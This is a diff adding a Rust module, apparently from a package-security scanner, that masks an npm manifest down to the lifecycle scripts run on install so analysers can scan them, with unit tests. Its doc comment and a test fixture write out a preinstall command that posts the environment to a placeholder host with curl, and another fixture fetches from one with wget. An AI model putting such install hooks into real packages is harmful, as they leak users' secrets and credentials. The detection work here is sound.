@@ -1,0 +1,246 @@
+//! The commands of `package.json` that run on install, laid out where they stand in the
+//! manifest, so that analysers can read them as the shell code they are.
+//!
+//! A lifecycle script is a shell command line: `curl -d "$(env)" https://x` in a
+//! `preinstall` is the whole attack, with no JavaScript file to read. The view is the
+//! manifest with every byte blanked except the commands npm runs on install (the
+//! lifecycle scripts and the scripts they name in `npm run x`), with line breaks kept:
+//! a hit in the view is at the line and column of the command in the manifest.
+//!
+//! Commands are located by walking the manifest's own bytes, so a key written twice (JSON
+//! parsers keep the last) shows both commands, and a manifest on one line works as well.
+
+use super::LIFECYCLE;
+use super::on_demand::reached_on_install;
+use crate::common::strip_bom;
+use palisade_core::{NPM_INSTALL_SCRIPTS, Package};
+use serde_json::{Map, Value};
+use std::collections::BTreeSet;
+use std::ops::Range;
+
+/// The manifest of an npm package with only its install-time commands left, JSON
+/// escapes replaced by text of the same length; `None` when no script runs on install
+/// or the manifest cannot be read.
+pub fn npm_install_script_view(package: &Package) -> Option<Vec<u8>> {
+    if package.ecosystem != Some(palisade_core::Ecosystem::Npm) {
+        return None;
+    }
+    let manifest = package.manifest()?;
+    install_script_view(strip_bom(&manifest.data))
+}
+
+fn install_script_view(data: &[u8]) -> Option<Vec<u8>> {
+    let Ok(Value::Object(manifest)) = serde_json::from_slice::<Value>(data) else {
+        return None;
+    };
+    let Some(Value::Object(scripts)) = manifest.get("scripts") else {
+        return None;
+    };
+    let run = run_on_install(scripts);
+    let mut view: Vec<u8> = data
+        .iter()
+        .map(|&b| if b == b'\n' { b'\n' } else { b' ' })
+        .collect();
+    let mut any = false;
+    for (name, span) in script_spans(data) {
+        if run.contains(&name) {
+            unescape_in_place(&data[span.clone()], &mut view[span]);
+            any = true;
+        }
+    }
+    any.then_some(view)
+}
+
+/// The scripts npm runs on install: the lifecycle hooks present and every script they
+/// name, even where a hook could also start scripts unnamed (the view shows what can be
+/// read; weighing what cannot is the on-demand check's concern).
+fn run_on_install(scripts: &Map<String, Value>) -> BTreeSet<String> {
+    let mut run: BTreeSet<String> = reached_on_install(scripts)
+        .into_iter()
+        .map(str::to_string)
+        .collect();
+    for hook in LIFECYCLE.iter().chain(NPM_INSTALL_SCRIPTS.iter()) {
+        if scripts.contains_key(*hook) {
+            run.insert(hook.to_string());
+        }
+    }
+    run
+}
+
+/// Writes `escaped` (a JSON string's inner bytes) into `out` (as long) as the text it
+/// stands for, each escape padded with spaces to its own length: `\"` becomes ` "`, and
+/// `\n` becomes `; ` (a command separator, as a line break is to a shell).
+fn unescape_in_place(escaped: &[u8], out: &mut [u8]) {
+    let mut i = 0;
+    while i < escaped.len() {
+        if escaped[i] == b'\\' && i + 1 < escaped.len() {
+            let (a, b) = match escaped[i + 1] {
+                b'n' | b'r' => (b';', b' '),
+                b't' => (b' ', b' '),
+                c @ (b'"' | b'\\' | b'/') => (b' ', c),
+                c => (b'\\', c),
+            };
+            out[i] = a;
+            out[i + 1] = b;
+            i += 2;
+        } else {
+            out[i] = escaped[i];
+            i += 1;
+        }
+    }
+}
+
+/// Each `"name": "command"` pair of the top-level `scripts` object(s), with the byte
+/// range of the command inside its quotes. The data must be valid JSON.
+fn script_spans(data: &[u8]) -> Vec<(String, Range<usize>)> {
+    let mut out = Vec::new();
+    let mut at = skip_space(data, 0);
+    if data.get(at) != Some(&b'{') {
+        return out;
+    }
+    at += 1;
+    loop {
+        at = skip_space(data, at);
+        let Some(key) = string_at(data, at) else {
+            return out;
+        };
+        at = skip_space(data, key.end + 1);
+        if data.get(at) != Some(&b':') {
+            return out;
+        }
+        at = skip_space(data, at + 1);
+        let is_scripts = decoded(data, &key).as_deref() == Some("scripts");
+        if is_scripts && data.get(at) == Some(&b'{') {
+            at = pairs(data, at + 1, &mut out);
+        } else {
+            at = skip_value(data, at);
+        }
+        at = skip_space(data, at);
+        match data.get(at) {
+            Some(b',') => at += 1,
+            _ => return out,
+        }
+    }
+}
+
+/// Reads the pairs of an object from just after its `{`, recording string values;
+/// returns the offset after its `}`.
+fn pairs(data: &[u8], mut at: usize, out: &mut Vec<(String, Range<usize>)>) -> usize {
+    loop {
+        at = skip_space(data, at);
+        if data.get(at) == Some(&b'}') {
+            return at + 1;
+        }
+        let Some(key) = string_at(data, at) else {
+            return data.len();
+        };
+        at = skip_space(data, key.end + 1);
+        if data.get(at) != Some(&b':') {
+            return data.len();
+        }
+        at = skip_space(data, at + 1);
+        if let (Some(value), Some(name)) = (string_at(data, at), decoded(data, &key)) {
+            at = value.end + 1;
+            out.push((name, value));
+        } else {
+            at = skip_value(data, at);
+        }
+        at = skip_space(data, at);
+        match data.get(at) {
+            Some(b',') => at += 1,
+            Some(b'}') => return at + 1,
+            _ => return data.len(),
+        }
+    }
+}
+
+fn skip_space(data: &[u8], mut at: usize) -> usize {
+    while data.get(at).is_some_and(u8::is_ascii_whitespace) {
+        at += 1;
+    }
+    at
+}
+
+/// The inner range of the string whose opening quote is at `at`.
+fn string_at(data: &[u8], at: usize) -> Option<Range<usize>> {
+    if data.get(at) != Some(&b'"') {
+        return None;
+    }
+    let mut i = at + 1;
+    while i < data.len() {
+        match data[i] {
+            b'\\' => i += 2,
+            b'"' => return Some(at + 1..i),
+            _ => i += 1,
+        }
+    }
+    None
+}
+
+fn decoded(data: &[u8], inner: &Range<usize>) -> Option<String> {
+    serde_json::from_slice(&data[inner.start - 1..inner.end + 1]).ok()
+}
+
+/// The offset just after the value starting at `at`: a string, or anything up to the
+/// `,`, `}` or `]` that ends it at depth zero. Depth is a counter, not recursion.
+fn skip_value(data: &[u8], mut at: usize) -> usize {
+    let mut depth = 0usize;
+    while at < data.len() {
+        match data[at] {
+            b'"' => match string_at(data, at) {
+                Some(inner) => at = inner.end,
+                None => return data.len(),
+            },
+            b'{' | b'[' => depth += 1,
+            b'}' | b']' if depth == 0 => return at,
+            b'}' | b']' => depth -= 1,
+            b',' if depth == 0 => return at,
+            _ => {}
+        }
+        at += 1;
+    }
+    at
+}
+
+#[cfg(test)]
+mod tests {
+    use super::install_script_view;
+
+    fn view(json: &str) -> Option<String> {
+        install_script_view(json.as_bytes()).map(|v| String::from_utf8(v).unwrap())
+    }
+
+    #[test]
+    fn only_install_time_commands_are_left_where_they_stand() {
+        let json = "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"curl https://t.example\",\n    \"preinstall\": \"curl -d \\\"$(env)\\\" https://x.example\"\n  }\n}";
+        let v = view(json).unwrap();
+        assert_eq!(v.len(), json.len());
+        assert_eq!(v.lines().count(), json.lines().count());
+        let line = v.lines().nth(4).unwrap();
+        assert_eq!(line.trim(), "curl -d  \"$(env) \" https://x.example");
+        assert!(!v.contains("t.example"), "{v}");
+        assert!(!v.contains("name"), "{v}");
+    }
+
+    #[test]
+    fn scripts_named_by_a_hook_and_duplicate_keys_are_shown() {
+        let json = r#"{"scripts": {"postinstall": "echo ok", "postinstall": "npm run x", "x": "wget -q http://y.example/a", "build": "tsc"}}"#;
+        let v = view(json).unwrap();
+        assert!(v.contains("echo ok"), "{v}");
+        assert!(v.contains("npm run x"), "{v}");
+        assert!(v.contains("wget -q http://y.example/a"), "{v}");
+        assert!(!v.contains("tsc"), "{v}");
+    }
+
+    #[test]
+    fn nothing_to_show_without_install_scripts_or_readable_json() {
+        assert_eq!(view(r#"{"scripts": {"build": "tsc"}}"#), None);
+        assert_eq!(view(r#"{"name": "x"}"#), None);
+        assert_eq!(view("{\"scripts\": {\"postinstall\": \"x\""), None);
+        // A `scripts` key nested elsewhere is not the manifest's scripts.
+        assert_eq!(
+            view(r#"{"config": {"scripts": {"postinstall": "curl x"}}}"#),
+            None
+        );
+    }
+}
